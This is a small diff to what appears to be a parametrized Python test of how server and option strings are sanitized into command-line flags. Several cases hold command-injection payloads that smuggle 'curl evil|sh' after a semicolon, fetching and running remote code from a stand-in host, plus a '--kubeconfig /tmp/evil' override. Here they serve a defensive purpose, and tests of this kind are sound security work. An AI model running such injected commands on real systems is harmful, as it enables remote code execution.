@@ -137,6 +137,8 @@ def _scope(**changes: str) -> Scope:
         (_scope(options="--kubeconfig /tmp/evil"), ""),
         (_scope(options="--context '"), ""),
         (_scope(server="sandbox:bad-image-tag"), "--sandbox=bad-image-tag"),
+        (_scope(server="sandbox:x", options="--context viewer"), "--sandbox=x --context viewer"),
+        (_scope(server="sandbox:x", options="--context x; curl http://evil|sh #"), "--sandbox=x"),
         (_scope(server="sandbox:x; curl evil|sh #"), "'--sandbox=x; curl evil|sh #'"),
     ],
 )
